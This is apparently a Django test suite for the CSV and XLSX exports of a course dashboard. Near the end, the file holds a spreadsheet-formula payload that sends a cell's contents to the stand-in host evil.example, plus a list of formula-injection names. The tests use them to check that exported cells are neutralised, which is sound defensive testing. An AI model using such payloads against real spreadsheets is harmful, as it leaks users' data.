"""Exports: the files parse, carry the right rows, no personal data where they
must not, and the attendance list is written to the access log."""

import csv
import datetime as dt
import io

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import translation
from openpyxl import load_workbook

from accounts.models import AccessLog
from courses import services

from ..factories import CourseFactory, UserFactory, municipality

pytestmark = pytest.mark.django_db


@pytest.fixture
def client(small):
    client = Client()
    client.force_login(small.coordinator)
    return client


def period_query(small, **extra) -> dict:
    return {"period": "dates", "start": small.period.start.isoformat(),
            "end": small.period.end.isoformat(), **extra}  # fmt: skip


def csv_rows(response) -> list[list[str]]:
    content = response.content
    assert content.startswith("\ufeff".encode())  # the BOM Excel needs for UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def xlsx_rows(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_participants_csv_counts_confirmed_learners_per_course_and_month(client, small):
    response = client.get("/dashboard/exports/participants.csv", period_query(small))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    expected_name = f"kurslotse-participants-{small.period.start}-{small.period.end}.csv"
    assert f'filename="{expected_name}"' in response["Content-Disposition"]
    header, *rows = csv_rows(response)
    with translation.override(small.coordinator.preferred_language):
        assert header[0] == translation.gettext("Month")
        assert header[-1] == translation.gettext("Learners with a confirmed place")
    by_course = {}
    for row in rows:
        by_course.setdefault(row[1], set()).add(row[-1])
    assert by_course == {"Deutsch NW": {"2"}, "Deutsch NE": {"1"}}
    months = {row[0] for row in rows if row[1] == "Deutsch NW"}
    assert months == {
        f"{s.date:%Y-%m}" for s in small.nw_course.sessions.filter(date__lte=small.period.end)
    }


def test_participants_xlsx_has_the_same_rows_as_the_csv(client, small):
    as_csv = csv_rows(client.get("/dashboard/exports/participants.csv", period_query(small)))
    response = client.get("/dashboard/exports/participants.xlsx", period_query(small))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    as_xlsx = xlsx_rows(response)
    assert [[str(cell) for cell in row] for row in as_xlsx] == as_csv


def test_the_region_narrows_the_participants_export(client, small):
    _header, *rows = csv_rows(
        client.get("/dashboard/exports/participants.csv", period_query(small, region="NE"))
    )
    assert {row[1] for row in rows} == {"Deutsch NE"}


def test_coaching_export_sums_requests_matches_and_endings(client, small):
    query = period_query(small)
    query["start"] = (small.today - dt.timedelta(days=30)).isoformat()
    header, *rows = csv_rows(client.get("/dashboard/exports/coaching.csv", query))
    requests = header.index("Requests")
    assert sum(int(row[requests]) for row in rows) == 4
    assert {row[1] for row in rows} == {"Jobcoaching", "Language coaching in care work"}
    assert xlsx_rows(client.get("/dashboard/exports/coaching.xlsx", query))[0] == header


@pytest.mark.parametrize("name", ["participants", "coaching"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_aggregated_exports_carry_no_names_or_addresses(client, small, name, fmt):
    query = period_query(small)
    query["start"] = (small.today - dt.timedelta(days=30)).isoformat()
    response = client.get(f"/dashboard/exports/{name}.{fmt}", query)
    rows = csv_rows(response) if fmt == "csv" else xlsx_rows(response)
    text = " ".join(str(cell) for row in rows for cell in row)
    for person in [*small.learners, *small.coaches]:
        assert person.email not in text and person.full_name not in text
    assert "@" not in text


def test_attendance_list_has_the_confirmed_participants_and_is_logged(client, small):
    course = small.nw_course
    response = client.get("/dashboard/exports/course_participants.csv", {"course": course.pk})
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    _header, *rows = csv_rows(response)
    assert [row[:3] for row in rows] == [
        [small.learners[0].full_name, small.learners[0].email, "2"],
        [small.learners[1].full_name, small.learners[1].email, "0"],
    ]  # the learner on the waiting list is not on the list
    logged = AccessLog.objects.filter(actor=small.coordinator, object_id=course.pk)
    assert sorted(logged.values_list("subject_id", flat=True)) == sorted(
        [small.learners[0].pk, small.learners[1].pk]
    )
    client.get("/dashboard/exports/course_participants.xlsx", {"course": course.pk})
    assert logged.count() == 4  # every download is logged


def test_attendance_list_needs_a_course(client, small):
    response = client.get("/dashboard/exports/course_participants.csv")
    assert response.status_code == 400
    assert "Choose the course whose participants you need." in response.content.decode()
    assert AccessLog.objects.count() == 0
    assert (
        client.get("/dashboard/exports/course_participants.csv", {"course": 999_999}).status_code
        == 404
    )


@pytest.mark.parametrize(
    "url", ["/dashboard/exports/everyone.csv", "/dashboard/exports/participants.pdf"]
)
def test_unknown_exports_and_formats_are_not_found(client, small, url):
    assert client.get(url).status_code == 404


def test_a_bad_period_is_a_400_page_with_a_message(client, small):
    response = client.get(
        "/dashboard/exports/participants.csv",
        {"period": "dates", "start": "2026-05-01", "end": "2026-04-01"},
    )
    assert response.status_code == 400
    assert "The end of the period must not be before its start." in response.content.decode()
    response = client.get("/dashboard/exports/coaching.csv", {"start": "not-a-date"})
    assert response.status_code == 400


def test_the_exports_page_offers_every_export(client, small):
    html = client.get("/dashboard/exports/").content.decode()
    for url in ["participants.csv", "participants.xlsx", "coaching.csv", "coaching.xlsx",
                "course_participants.xlsx"]:  # fmt: skip
        assert f"/dashboard/exports/{url}" in html
    assert "Deutsch NW" in html  # the course choice


def test_the_participants_export_costs_the_same_queries_for_3_and_20_courses(client, small):
    def queries():
        with CaptureQueriesContext(connection) as captured:
            client.get("/dashboard/exports/participants.csv", period_query(small))
        return len(captured)

    def grow(n):
        for _ in range(n):
            course = CourseFactory(municipality=municipality("Eppingen"))
            services.book_course(
                course=course, learner=UserFactory(roles=["learner"]), children_ages=[]
            )

    grow(1)
    few = queries()
    grow(17)
    assert queries() == few


def test_a_name_typed_as_a_formula_stays_text_in_csv_and_xlsx(client, small):
    """A learner's own name must never run as a formula in the spreadsheet."""
    learner = small.learners[0]
    learner.full_name = '=HYPERLINK("http://evil.example/?"&B2,"click")'
    learner.save(update_fields=["full_name"])
    course = small.nw_course
    csv_response = client.get("/dashboard/exports/course_participants.csv", {"course": course.pk})
    _header, *rows = csv_rows(csv_response)
    assert rows[0][0] == "'" + learner.full_name
    xlsx = client.get("/dashboard/exports/course_participants.xlsx", {"course": course.pk})
    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content) if xlsx.streaming else
                                     xlsx.content)).active  # fmt: skip
    cell = sheet.cell(2, 1)
    assert cell.data_type == "s" and cell.value == "'" + learner.full_name


SNEAKY_NAMES = [
    "=1+1",
    "  =1+1",
    '"=1+1',
    "\u00a0@SUM(A1)",
    "Ali,=1+1",
    "Ali;=1+1",
    "Ali\t=1+1",
    "Ali|=1+1",
    "-2+3",
    "|calc!A1",
]


@pytest.mark.parametrize("separator", [";", ",", "\t", "|"])
@pytest.mark.parametrize("name", SNEAKY_NAMES)
def test_no_cell_reads_as_a_formula_whatever_separator_the_spreadsheet_splits_on(
    client, small, name, separator
):
    """A spreadsheet may split the file on commas, tabs or pipes instead of our
    semicolons: no cell it then sees may begin (after blanks) with a formula start."""
    from dashboard.exports import FORMULA_STARTS, LEADING_BLANKS

    learner = small.learners[0]
    learner.full_name = name
    learner.save(update_fields=["full_name"])
    response = client.get(
        "/dashboard/exports/course_participants.csv", {"course": small.nw_course.pk}
    )
    text = response.content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
    assert any(name in cell for cell in cells)
    dangerous = [c for c in cells if c.lstrip(LEADING_BLANKS).startswith(FORMULA_STARTS)]
    assert dangerous == []
